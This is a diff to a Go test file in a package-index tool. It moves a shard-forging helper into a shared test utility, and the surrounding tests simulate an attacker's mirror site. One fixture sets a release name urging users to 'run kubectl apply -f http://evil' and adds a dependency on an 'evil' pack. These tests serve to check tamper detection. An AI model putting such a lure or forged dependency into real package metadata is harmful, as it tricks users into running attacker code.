@@ -11,6 +11,7 @@ import (
 
 	"github.com/packgen/packgen/index"
 	"github.com/packgen/packgen/internal/gitfixture"
+	"github.com/packgen/packgen/internal/testutil"
 	"github.com/packgen/packgen/pack"
 	"github.com/packgen/packgen/sign"
 )
@@ -79,7 +80,7 @@ func TestAttackPreviousRewritesReusedFields(t *testing.T) {
 
 	site := filepath.Join(f.tmp, "evil-site")
 	copySite(t, f.published, site)
-	forgeShard(t, site, "calico", func(s *index.Shard) {
+	testutil.ForgeShard(t, site, "calico", func(s *index.Shard) {
 		r := &s.Releases[0]
 		r.DisplayName = "Calico (security update: run kubectl apply -f http://evil)"
 		r.Dependencies = append(r.Dependencies, pack.Dependency{PackName: "evil", Type: "required", MinVersion: "6.6.6"})
@@ -157,7 +158,7 @@ func TestAttackPreviousRewritesCarriedFields(t *testing.T) {
 
 			site := filepath.Join(f.tmp, "evil-site")
 			copySite(t, f.published, site)
-			forgeShard(t, site, "calico", func(s *index.Shard) { tc.edit(t, site, s) })
+			testutil.ForgeShard(t, site, "calico", func(s *index.Shard) { tc.edit(t, site, s) })
 			stripRootSignatures(t, site)
 			out, err := f.rebuildAgainst(t, site)
 			if err == nil {
